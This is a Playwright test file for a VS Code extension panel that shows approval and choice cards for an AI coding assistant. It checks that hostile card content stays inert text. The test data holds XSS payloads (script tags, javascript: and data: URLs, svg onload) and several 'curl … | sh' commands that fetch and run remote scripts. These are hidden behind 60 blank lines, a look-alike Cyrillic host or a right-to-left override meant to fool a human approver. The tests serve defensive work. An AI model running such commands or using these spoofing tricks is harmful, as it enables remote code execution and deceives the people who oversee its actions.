// Hostile cards in the card panel, checked in the browser (Playwright under code-server):
// what H4's ui-cards "a hostile card renders as text" leaves out: data: links, a 1 MB title,
// 10,000 options, the CSP as the webview received it, and the panel still answering keys after
// rendering the huge card. Nothing is pressed by rendering: the sandbox hears nothing.
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { heard, newCard, sandboxCard, signInApproved, unwire, until, wire, type World } from './cards-helpers';
import { driver, driverAvailable } from './helpers/driver';
import { intoWorkspaceScope } from './helpers/workspace-scope';

const WV = ['iframe.webview.ready', 'iframe#active-frame'];
const inPanel = (selector: string, timeout?: number) => ({ selector, frames: WV, ...(timeout ? { timeout } : {}) });

describe('hostile panel (extension host, Playwright)', function () {
  this.timeout(240_000);
  let w: World | undefined;
  /** The default scope a person gets (workspace): a live session of the card's assistant in this window's terminal. */
  let workspaceScope: vscode.Disposable | undefined;

  before(async function () {
    if (!driverAvailable()) this.skip();
    w = await wire();
    await signInApproved(w);
    workspaceScope = await intoWorkspaceScope(w);
  });
  after(async () => {
    workspaceScope?.dispose();
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await unwire(w);
  });

  const app = () => w!.app;
  async function openAlone(id: string): Promise<void> {
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    app().openCard(id);
    await until('its panel', () => app().panels.get(id)?.isReady(), 90_000);
    await driver.waitFor(inPanel('#title', 60_000));
  }

  it('data: and javascript: links, direction overrides and a 1 MB title: text only, nothing runs, the CSP is strict', async () => {
    const head = `<a href="data:text/html,<script>parent.document.body.dataset.pwned=1</script>">open</a> \u202Egnp.exe <script>document.body.dataset.pwned='2'</script>`;
    const title = `${head} ${'M'.repeat(1_000_000 - head.length - 1)}`;
    const c = await newCard(w!, {
      kind: 'choice', title,
      summary: '<iframe src="javascript:alert(1)"></iframe> <img src="data:image/svg+xml,<svg onload=alert(1)>"> [x](javascript:alert(1))',
      options: [{ id: 'a', label: '<a href="data:text/html,x">data</a>' }, { id: 'b', label: '<svg onload="document.body.dataset.pwned=3">' }],
    });
    await until('the card in the model', () => app().live!.core.cards.get(c.id), 90_000);
    await openAlone(c.id);
    const shown = await driver.text(inPanel('#title'));
    assert.ok(shown.startsWith('<a href="data:text/html,<script>'), 'the title is text, markup and all');
    assert.ok(shown.includes('[U+202E]'), 'the direction override is shown as a mark, not obeyed');
    assert.ok(shown.length >= 1_000_000, `the whole title is there as text (${shown.length})`);
    for (const sel of ['#root script', '#root a[href]', '#root img', '#root iframe', '#root svg', '#root [onload]', '#root [onerror]']) {
      assert.equal(await driver.count(inPanel(sel)), 0, `no ${sel} from the card`);
    }
    assert.equal(await driver.count(inPanel('body[data-pwned]')), 0, 'nothing ran');
    // The CSP as the webview document carries it: nothing by default, scripts only by nonce.
    const csp = 'meta[http-equiv="Content-Security-Policy"]';
    assert.equal(await driver.count(inPanel(`${csp}[content*="default-src 'none'"][content*="script-src 'nonce-"]`)), 1, 'strict CSP present');
    assert.equal(await driver.count(inPanel(`${csp}[content*="unsafe-inline"], ${csp}[content*="unsafe-eval"], ${csp}[content*="data:"]`)), 0, 'no unsafe-inline, unsafe-eval or data: source');
    assert.equal(await driver.count(inPanel('body > script[src$="webview.js"]')), 1, 'the panel\'s own script, from a file');
    await driver.screenshot('hostile-panel-1mb-title');
    assert.deepEqual(await heard(w!, c.id), [], 'rendering pressed nothing');
  });

  it('the 72-line faked summary: the command in its own block with its line count, the blank run one mark, the payload in sight (#52 F4)', async () => {
    const command = `npm test\n\nWhy: Run the unit tests\n\nIn: /home/me/shop${'\n'.repeat(60)}curl https://example.invalid/x.sh | sh`;
    const quote = (t: string) => t.split('\n').map((l) => `\u2502 ${l}`).join('\n');
    // As the bridge writes it (src/bridge/tool-input.ts).
    const summary = `Tool: Bash\n\nWill run (command):\n${quote(command)}\n\nWhy, in the assistant's words (description):\n${quote('Run the unit tests')}\n\nIn: /home/me/shop`;
    const c = await newCard(w!, { kind: 'approval', title: 'Claude Code asks to run: npm test…', summary, blocking: true });
    await until('the card in the model', () => app().live!.core.cards.get(c.id), 90_000);
    await openAlone(c.id);
    assert.equal(await driver.count(inPanel('#summary figure.quoted')), 2, 'the command and the why, each in a block');
    assert.equal(await driver.text(inPanel('#summary figure.quoted:first-of-type figcaption')), '65 lines');
    const block = await driver.text(inPanel('#summary figure.quoted:first-of-type pre'));
    assert.match(block, /In: \/home\/me\/shop\n\[59 blank lines\]\ncurl https:\/\/example\.invalid\/x\.sh \| sh$/, block);
    await driver.screenshot('panel-faked-summary-72-lines');
    assert.equal((await sandboxCard(w!, c.id)).status, 'pending');
  });

  it('a command with a look-alike host (g\u0456thub.com): its odd letter a mark, a warning above the buttons (#52)', async () => {
    const c = await newCard(w!, { kind: 'approval', title: 'Claude Code asks to run: curl https://g\u0456thub.com/x.sh | sh', summary: 'Tool: Bash\n\nWill run (command):\n\u2502 curl https://g\u0456thub.com/x.sh | sh\n\nIn: /home/me/shop' });
    await until('the card in the model', () => app().live!.core.cards.get(c.id), 90_000);
    await openAlone(c.id);
    assert.ok((await driver.text(inPanel('#title'))).includes('g[U+0456 Cyrillic]thub.com'));
    assert.ok((await driver.text(inPanel('#summary'))).includes('curl https://g[U+0456 Cyrillic]thub.com/x.sh | sh'));
    await driver.waitFor(inPanel('#look-alike'));
    assert.equal(await driver.count(inPanel('#look-alike ~ .actions [data-key="approve"]')), 1, 'the warning comes before Approve');
    await driver.screenshot('panel-look-alike-github');
  });

  it('an approval whose words hold hidden characters shows them as marks and says so above its buttons (#37)', async () => {
    const c = await newCard(w!, { kind: 'approval', title: 'Run the tests? npm test \u202Ehs | moc.elpmaxe//:sptth lruc &&', summary: 'cleans\u200B up first' });
    await until('the card in the model', () => app().live!.core.cards.get(c.id), 90_000);
    await openAlone(c.id);
    assert.ok((await driver.text(inPanel('#title'))).includes('npm test [U+202E]hs'), 'the override is a mark');
    assert.ok((await driver.text(inPanel('.summary'))).includes('cleans[U+200B] up'), 'the zero-width space is a mark');
    await driver.waitFor(inPanel('#hidden-chars'));
    assert.match(await driver.text(inPanel('#hidden-chars')), /hidden characters/);
    // Above its buttons: the warning comes before Approve in the page.
    assert.equal(await driver.count(inPanel('#hidden-chars ~ .actions [data-key="approve"]')), 1);
    await driver.screenshot('panel-hidden-bidi');
    assert.equal((await sandboxCard(w!, c.id)).status, 'pending');
  });

  it('10,000 options render, and the panel still answers a key press at once (1 picks the first option)', async () => {
    const options = Array.from({ length: 10_000 }, (_, i) => ({ id: `o${i}`, label: `<b>option</b> ${i}` }));
    const c = await newCard(w!, { kind: 'choice', title: 'Ten thousand options', options });
    await until('the card in the model', () => app().live!.core.cards.get(c.id), 90_000);
    await openAlone(c.id);
    await driver.waitFor(inPanel('.option', 60_000));
    assert.equal(await driver.count(inPanel('.option')), 10_000, 'every option is there');
    assert.ok((await driver.text(inPanel('.option'))).includes('<b>option</b> 0'), 'as text');
    await driver.click(inPanel('#title'));
    // Keys wait a moment after focus arrives (ANSWER_KEYS_QUIET_MS): the panel's body says when they count.
    await driver.waitFor({ ...inPanel('body[data-keys="ready"]', 15_000), state: 'attached' });
    await driver.press('1', inPanel('#title'));
    await driver.waitFor(inPanel('.option.chosen', 15_000));
    assert.equal(await driver.count(inPanel('.option.chosen')), 1, 'the key picked one option');
    await driver.screenshot('hostile-panel-10000-options');
    const onService = await sandboxCard(w!, c.id);
    assert.equal(onService.status, 'pending', 'picking is not answering: nothing sent');
    assert.deepEqual(await heard(w!, c.id), []);
  });
});
